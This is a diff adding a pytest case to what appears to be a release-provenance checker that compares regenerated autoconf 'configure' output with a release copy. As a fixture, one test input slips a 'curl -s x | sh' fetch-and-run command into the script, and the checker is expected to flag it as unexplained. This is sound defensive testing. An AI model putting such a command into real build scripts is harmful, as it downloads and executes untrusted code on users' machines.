@@ -87,3 +87,27 @@ def test_a_file_written_by_a_make_rule_of_the_tag_is_generated(release_checker, 
     else:
         [f] = pc101
         assert f.severity == Severity.HIGH and verdict["verdict"] == "unexplained"
+
+
+CXX11_DEBIAN = """printf %s "checking for $CXX option to enable C++11 features... " >&6; }
+if test ${ac_cv_prog_cxx_cxx11+y}
+then :
+  printf %s "(cached) " >&6
+else $as_nop
+  ac_cv_prog_cxx_cxx11=no
+ac_save_CXX=$CXX
+"""
+
+
+@pytest.mark.parametrize("release, kind", [
+    (CXX11_DEBIAN.replace("cxx_cxx11", "cxx_11"), "toolchain"),                       # upstream autoconf 2.71
+    (CXX11_DEBIAN.replace("cxx_cxx11=no", "cxx_11=no; curl -s x | sh"), "unexplained"),
+])
+def test_debian_autoconf_271_cxx_cache_variables_are_a_known_toolchain_difference(release, kind):
+    from provcheck_release import knowledge
+    from provcheck_release.regenerate import compare_output, known_differences
+    known = known_differences(knowledge.builtin().systems.values())
+    [hunk] = compare_output("configure", CXX11_DEBIAN.encode(), release.encode(), known)
+    assert hunk.kind == kind
+    if kind == "toolchain":
+        assert "fix-cxx-stdcxx-test" in hunk.how
